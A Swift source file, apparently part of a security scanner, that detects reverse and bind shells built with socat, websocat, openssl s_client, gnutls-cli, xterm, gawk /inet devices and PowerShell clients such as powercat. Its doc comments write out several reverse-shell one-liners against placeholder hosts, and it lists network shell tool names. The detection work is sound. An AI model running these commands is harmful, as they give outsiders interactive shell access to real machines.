import Bytes

/// Tools that carry bytes between two ends, with a shell at one: socat, `openssl s_client`, awk's `/inet`, xterm sent to
/// another display, and the named PowerShell clients.
enum RelayMatcher {
  static let toolNames: [StaticString] = [
    "socat", "socat.exe", "websocat", "s_client", "gnutls-cli", "xterm", "Invoke-ConPtyShell", "powercat",
    "Invoke-PowerShellTcp",
  ]
  private static let tools = NameTable(toolNames)

  static func matches(_ shell: ShellText) -> [ShellMatch] {
    var found: [ShellMatch] = []
    var seen = 0
    for tool in shell.tools where found.count < 16 && seen < 64 {
      let (index, place) = tool
      let name = shell.name(tool)
      guard tools.contains(name) else { continue }
      seen += 1
      let one: ShellMatch? =
        if name.equalsIgnoringCase("socat") || name.equalsIgnoringCase("socat.exe") {
          socat(shell, index, place)
        } else if name == "websocat" {
          websocat(shell, index, place)
        } else if name == "s_client" {
          openssl(shell, index, place)
        } else if name == "gnutls-cli" {
          gnutls(shell, index, place)
        } else if name == "xterm" {
          xterm(shell.commands[index], place)
        } else if name.equalsIgnoringCase("Invoke-ConPtyShell") || name.equalsIgnoringCase("powercat")
          || name.equalsIgnoringCase("Invoke-PowerShellTcp")
        {
          powerShell(shell.commands[index], place)
        } else {
          nil
        }
      if let one { found.append(one) }
    }
    if shell.signs.hasInet, let one = awk(shell.text) { found.append(one) }
    return found
  }

  /// `socat TCP:host:port EXEC:sh`, in either order; `TCP-LISTEN:` waits instead.
  private static func socat(_ shell: ShellText, _ index: Int, _ place: Int) -> ShellMatch? {
    let tool = ToolWords(shell, index, after: place)
    let words = tool.words
    // `socat - TCP:host:port | sh`, `sh <f | socat STDIO TCP:host:port >f`
    var runsShell =
      words.contains { $0 == "-" || $0.hasPrefix("-,") || $0.equalsIgnoringCase("stdio") }
      && shell.isPipedWithShell(index)
    var far: Endpoint?
    var isBind = false
    var transport = "tcp"
    for (number, word) in words.enumerated() {
      guard let (kind, rest) = word.cut(0x3A), kind.count <= 20 else { continue }
      let name = kind.string.uppercased()
      switch name {
      case "EXEC", "SYSTEM", "SHELL":
        let start = rest.isEmpty ? number + 1 : number
        let program = rest.isEmpty ? tool.word(start) : rest
        let first = program.cut(0x2C)?.before ?? program
        if tool.hands(first, at: start) || tool.isCutShell(first, at: start)
          || interpreters.contains(ShellWords.baseName(first)) && namesTerminal(shell.text)
        {
          runsShell = true
        }
      case _ where connects.contains(kind):
        transport = Self.transport(name)
        let plain = rest.cut(0x2C)?.before ?? rest
        if plain.isEmpty, tool.word(number + 2)[0] == 0x3A {
          // `TCP:"host":port`
          far = shell.endpoint(tool.word(number + 1), tool.word(number + 2).slice(1))
        } else if let colon = plain.lastIndex(of: 0x3A) {
          far = shell.endpoint(plain.slice(0, colon), plain.slice(colon + 1))
        }
      case "SOCKS4", "SOCKS4A", "SOCKS5", "SOCKS5-CONNECT", "PROXY", "PROXY-CONNECT":
        // The relay comes first, then where it is to connect.
        let parts = (rest.cut(0x2C)?.before ?? rest).split(0x3A, limit: 4)
        if parts.count == 3 { far = shell.endpoint(parts[1], parts[2]) }
      default:
        if name.hasSuffix("-LISTEN") || name.hasSuffix("-L") || name.hasSuffix("-RECVFROM") {
          isBind = true
          transport = Self.transport(name)
          far = Endpoint(host: nil, port: Endpoint.port(rest))
        }
      }
    }
    guard runsShell, let far else { return nil }
    return ShellMatch(
      technique: "socat", endpoint: far, isBind: isBind, transport: transport,
      place: shell.commands[index].range.lowerBound)
  }

  /// Addresses with a host and a port.
  private static let connects = NameTable([
    "TCP", "TCP4", "TCP6", "TCP-CONNECT", "TCP4-CONNECT", "TCP6-CONNECT", "UDP", "UDP4", "UDP6", "UDP-CONNECT",
    "UDP4-CONNECT", "UDP6-CONNECT", "UDP-DATAGRAM", "UDP4-DATAGRAM", "UDP6-DATAGRAM", "UDP-SENDTO", "UDP4-SENDTO",
    "UDP6-SENDTO", "OPENSSL", "OPENSSL-CONNECT", "SSL", "OPENSSL-DTLS-CLIENT", "OPENSSL-DTLS-CONNECT", "SCTP", "SCTP4",
    "SCTP6", "SCTP-CONNECT", "SCTP4-CONNECT", "SCTP6-CONNECT", "DTLS", "DTLS-CLIENT", "DTLS-CONNECT", "DCCP",
    "DCCP-CONNECT", "TCP4-C", "TCP-C", "SSL-CONNECT",
  ])

  private static func transport(_ address: String) -> String {
    if address.hasPrefix("SCTP") { return "sctp" }
    return address.hasPrefix("UDP") || address.contains("DTLS") ? "udp" : "tcp"
  }

  private static let interpreters = NameTable(["python", "python2", "python3", "perl", "ruby", "script"])

  private static func namesTerminal(_ text: ByteView) -> Bool {
    text.contains("pty.spawn") || text.contains("PTY.spawn") || ShellWords.namesShell(text)
  }

  /// `websocat ws://host:port exec:/bin/sh`, `websocat cmd:'bash -i' tcp:host:port`
  private static func websocat(_ shell: ShellText, _ index: Int, _ place: Int) -> ShellMatch? {
    let tool = ToolWords(shell, index, after: place)
    var runsShell = false
    var far: Endpoint?
    for (number, word) in tool.words.enumerated() {
      guard let (kind, rest) = word.cut(0x3A), kind.count <= 12 else { continue }
      if kind == "exec" || kind == "cmd" || kind == "sh-c" {
        let start = rest.isEmpty ? number + 1 : number
        if tool.hands(rest.isEmpty ? tool.word(start) : rest, at: start) { runsShell = true }
      } else if kind == "ws" || kind == "wss" || kind == "tcp" || kind == "ws-c" {
        far = Endpoint.pair(rest.hasPrefix("//") ? rest.slice(2) : rest) ?? far
      }
    }
    guard runsShell, let far else { return nil }
    return ShellMatch(
      technique: "other", language: "websocat", endpoint: far, place: shell.commands[index].range.lowerBound)
  }

  /// `sh -i <fifo | openssl s_client -connect host:port >fifo`; to look at a certificate needs no shell.
  private static func openssl(_ shell: ShellText, _ index: Int, _ place: Int) -> ShellMatch? {
    let tool = ToolWords(shell, index, after: place)
    guard shell.isPipedWithShell(index) || shell.isJoinedWithShell(index) else { return nil }
    var endpoint = Endpoint(host: nil, port: nil)
    for (number, word) in tool.words.enumerated() {
      let value = tool.word(number + 1)
      if word == "-connect" {
        if let colon = value.lastIndex(of: 0x3A) {
          endpoint = shell.endpoint(value.slice(0, colon), value.slice(colon + 1))
        } else {
          endpoint.host = shell.endpoint(value, ByteView("1")).host
        }
      } else if word == "-host" {
        endpoint.host = shell.endpoint(value, ByteView("1")).host
      } else if word == "-port" {
        endpoint.port = Endpoint.port(value)
      }
    }
    return ShellMatch(technique: "openssl", endpoint: endpoint, place: shell.commands[index].range.lowerBound)
  }

  /// `sh -i <fifo | gnutls-cli host -p port >fifo`
  private static func gnutls(_ shell: ShellText, _ index: Int, _ place: Int) -> ShellMatch? {
    guard shell.isPipedWithShell(index) || shell.isJoinedWithShell(index) else { return nil }
    let tool = ToolWords(shell, index, after: place)
    var endpoint = Endpoint(host: nil, port: 443)
    var isValue = false
    for (number, word) in tool.words.enumerated() {
      if isValue {
        isValue = false
      } else if word == "-p" || word == "--port" {
        endpoint.port = shell.endpoint(ByteView(""), tool.word(number + 1)).port
        isValue = true
      } else if word.hasPrefix("--port=") {
        endpoint.port = Endpoint.port(word.slice(7))
      } else if word[0] != 0x2D, endpoint.host == nil, Endpoint.isPlainHost(word) {
        endpoint.host = Endpoint.withoutBrackets(word)
      }
    }
    return ShellMatch(
      technique: "openssl", language: "gnutls-cli", endpoint: endpoint, place: shell.commands[index].range.lowerBound)
  }

  /// `xterm -display 203.0.113.66:1`: the terminal opens on another's screen. X listens on 6000 and up.
  private static func xterm(_ command: SimpleCommand, _ place: Int) -> ShellMatch? {
    let rest = command.words[(place + 1)...]
    guard let flag = rest.firstIndex(where: { $0 == "-display" }),
      let (host, screen) = command.word(flag + 1).cut(0x3A),
      Endpoint.isPlainHost(host), !(host == "localhost")
    else { return nil }
    let number = Int((screen.cut(0x2E)?.before ?? screen).integer ?? -1)
    // A name's first screen is a desk of one's own; manuals have it.
    let isAddress = host[host.count - 1] >= 0x30 && host[host.count - 1] <= 0x39
    guard number >= (isAddress ? 0 : 1), number < 64 else { return nil }
    return ShellMatch(
      technique: "xterm", endpoint: Endpoint(host: host.string, port: 6000 + number), place: command.range.lowerBound)
  }

  private static func powerShell(_ command: SimpleCommand, _ place: Int) -> ShellMatch? {
    var endpoint = Endpoint(host: nil, port: nil)
    let rest = Array(command.words.dropFirst(place + 1).prefix(32))
    var isBind = false
    for (index, word) in rest.enumerated() {
      let next = index + 1 < rest.count ? rest[index + 1] : ByteView("")
      if word.equalsIgnoringCase("-c") || word.equalsIgnoringCase("-IPAddress") || word.equalsIgnoringCase("-RemoteIp")
      {
        endpoint.host = Endpoint.isHost(next) ? Endpoint.withoutBrackets(next) : nil
      } else if word.equalsIgnoringCase("-p") || word.equalsIgnoringCase("-Port")
        || word.equalsIgnoringCase("-RemotePort")
      {
        endpoint.port = Endpoint.port(next)
      } else if word.equalsIgnoringCase("-l") || word.equalsIgnoringCase("-Bind") {
        isBind = true
      } else if index == 0, Endpoint.isPlainHost(word) {
        endpoint = Endpoint(word, next)
      }
    }
    guard endpoint.port != nil else { return nil }
    let name = ShellWords.baseName(command.word(place))
    return ShellMatch(
      technique: name.equalsIgnoringCase("Invoke-ConPtyShell") ? "conpty" : "powershell", endpoint: endpoint,
      isBind: isBind,
      place: command.range.lowerBound)
  }

  /// gawk: `s = "/inet/tcp/0/host/port"; s |& getline c; … c |& getline`. The near port is 0 for a client.
  private static func awk(_ text: ByteView) -> ShellMatch? {
    let devices: [(StaticString, String)] = [
      ("/inet/tcp/", "tcp"), ("/inet/udp/", "udp"), ("/inet4/tcp/", "tcp"), ("/inet6/tcp/", "tcp"),
      ("/inet4/udp/", "udp"), ("/inet6/udp/", "udp"),
    ]
    for (device, transport) in devices {
      guard let place = text.firstIndex(of: ByteView(device)), text.contains("getline") else { continue }
      // The device is read from, and what is read is run: two co-processes or a pipe.
      guard text.contains("|&"), text.contains("while") || text.contains("system"),
        runsLines(text, program(text, around: place))
      else { continue }
      let parts = text.slice(place + ByteView(device).count, place + 300).split(0x2F, limit: 3)
      guard parts.count == 3 else { continue }
      if !(parts[0] == "0"), parts[1] == "0" {
        let port =
          Endpoint.port(parts[0]) ?? Variables(text).first(where: Endpoint.isPort)?.withView { Endpoint.port($0) }
        return ShellMatch(
          technique: "awk", endpoint: Endpoint(host: nil, port: port), isBind: true, transport: transport, place: place)
      }
      // The device's name may be put together out of variables.
      let variables = Variables(text)
      let host =
        variables[parts[1]]
        ?? (Endpoint.isHost(parts[1]) ? parts[1].string : variables.first(where: Endpoint.isPlainHost))
      let port = Endpoint.port(parts[2]) ?? variables.first(where: Endpoint.isPort)?.withView { Endpoint.port($0) }
      return ShellMatch(
        technique: "awk", endpoint: Endpoint(host: host, port: port), transport: transport, place: place)
    }
    return nil
  }

  /// A second `getline` reads what a command says that came in, and a page is read by the first alone. What stands in quotes
  /// came from nowhere: `"hostname" | getline h`.
  private static func runsLines(_ text: ByteView, _ program: ByteView) -> Bool {
    var sources: [ByteView] = []
    var isRead = false
    var from = 0
    while let place = text.firstIndex(of: ByteView("getline"), from: from), sources.count < 16 {
      from = place + 7
      var end = place
      while isAny(text[end - 1], of: " |&\\"), place - end < 16 { end -= 1 }
      guard end < place, text.slice(end, place).firstIndex(of: 0x7C) != nil else { continue }
      var start = end
      while end - start < 64, isWordByte(text[start - 1]) || text[start - 1] == 0x24 { start -= 1 }
      let source = text.slice(start, end)
      if source.isEmpty {
        // Quotes, with the device in them.
        let near = text.slice(max(end - 120, 0), end - 1)
        isRead = isRead || near.lastIndex(of: 0x22).map { near.slice($0 + 1).hasPrefix("/inet") } ?? false
      } else if !sources.contains(where: { $0 == source }) {
        sources.append(source)
      }
    }
    if sources.count + (isRead ? 1 : 0) >= 2 { return true }
    return (isRead || !sources.isEmpty) && (program.contains("system(") || ShellWords.namesShell(program))
  }

  /// The program in its quotes: a shell elsewhere on the command line is not what it gives away.
  private static func program(_ text: ByteView, around place: Int) -> ByteView {
    let before = text.slice(max(place - 4096, 0), place)
    let start = before.lastIndex(of: 0x27).map { place - before.count + $0 + 1 } ?? place - before.count
    return text.slice(start, text.slice(0, place + 4096).firstIndex(of: 0x27, from: place) ?? place + 4096)
  }
}
